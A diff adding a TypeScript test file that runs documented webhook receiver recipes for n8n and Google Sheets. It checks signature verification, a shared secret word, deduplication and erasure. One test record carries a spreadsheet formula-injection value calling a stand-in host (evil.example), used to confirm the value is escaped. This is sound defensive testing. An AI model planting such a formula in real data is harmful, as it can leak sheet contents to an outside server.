@@ -1,0 +1,72 @@
+/** The recipes of `docs/receivers.md`, run with what the service sends; their hosts are stood in for. */
+
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { Webhook } from 'standardwebhooks';
+import { expect, test } from 'vitest';
+import { webhookSecret } from '../testing/receiver.ts';
+import { sampleRecord } from '../testing/sample-enquiry.ts';
+import { type EnquiryEvent, webhookBody } from './enquiry-event.ts';
+
+const sections = readFileSync('docs/receivers.md', 'utf8').split(/^## /m);
+
+function recipe(heading: string): string {
+	const section = sections.find((text) => text.startsWith(`${heading}\n`)) ?? '';
+	return /^```js\n(.*?)^```$/ms.exec(section)?.[1] ?? '';
+}
+
+const record = { ...sampleRecord(), name: '=IMPORTXML("https://evil.example")' };
+const { reference } = record;
+const created: EnquiryEvent = { name: 'created', record };
+const erased: EnquiryEvent = { name: 'erased', reference, at: record.receivedAt };
+
+test('n8n takes what is signed, and nothing else', async () => {
+	const body = JSON.stringify(webhookBody(created));
+	const run = (sent: string, at = new Date()) => {
+		const headers = {
+			'webhook-id': 'msg_1',
+			'webhook-timestamp': String(Math.floor(at.getTime() / 1000)),
+			'webhook-signature': `v1,AAAA ${new Webhook(webhookSecret).sign('msg_1', at, body)}`,
+		};
+		const $input = { first: () => ({ json: { headers } }) };
+		const host = { helpers: { getBinaryDataBuffer: async () => Buffer.from(sent) } };
+		const code = recipe('n8n').replace('whsec_…', webhookSecret);
+		const AsyncFunction = (async () => {}).constructor as FunctionConstructor;
+		return new AsyncFunction('require', '$input', code).call(host, createRequire(import.meta.url), $input);
+	};
+	expect(await run(body)).toEqual([{ json: JSON.parse(body) }]);
+	await expect(run(body.replace('Tan', 'Ran').replace('IMPORT', 'EXPORT'))).rejects.toThrow('signature');
+	await expect(run(body, new Date(Date.now() - 600_000))).rejects.toThrow('signature');
+});
+
+test('Google Sheets keeps each enquiry once, and forgets it', () => {
+	const rows: string[][] = [];
+	const posts: [string, Record<string, string>][] = [];
+	const rowOf = (cell: string) => rows.findIndex((row) => row.some((held) => held.replace(/^'/, '') === cell));
+	const sheet = {
+		createTextFinder: (cell: string) => ({
+			matchEntireCell: () => ({ findNext: () => (rowOf(cell) < 0 ? null : { getRow: () => rowOf(cell) + 1 }) }),
+		}),
+		appendRow: (row: string[]) => rows.push(row),
+		deleteRow: (row: number) => rows.splice(row - 1, 1),
+	};
+	const hosts = {
+		LockService: { getScriptLock: () => ({ waitLock() {}, releaseLock() {} }) },
+		SpreadsheetApp: { getActiveSpreadsheet: () => ({ getSheets: () => [sheet] }) },
+		HtmlService: { createHtmlOutput: (text: string) => text },
+		UrlFetchApp: {
+			fetch: (url: string, { payload }: { payload: string }) => void posts.push([url, JSON.parse(payload)]),
+		},
+	};
+	const script = new Function(...Object.keys(hosts), `${recipe('Google Sheets')}; return doPost;`);
+	const doPost = script(...Object.values(hosts));
+	const send = (event: EnquiryEvent, word = 'put-a-long-random-word-here') =>
+		doPost({ parameter: { word }, postData: { contents: JSON.stringify(webhookBody(event)) } });
+	expect(() => send(created, 'guessed')).toThrow('word');
+	expect([send(created), send(created)]).toEqual(['taken', 'taken']);
+	expect(rows).toEqual([expect.arrayContaining([`'${reference}`, `'${record.name}`])]);
+	const text = `New enquiry ${reference}, en, plan-1`;
+	expect(posts.map(([, message]) => message)).toEqual([{ text }, { chat_id: '…', text }]);
+	send(erased);
+	expect(rows).toEqual([]);
+});
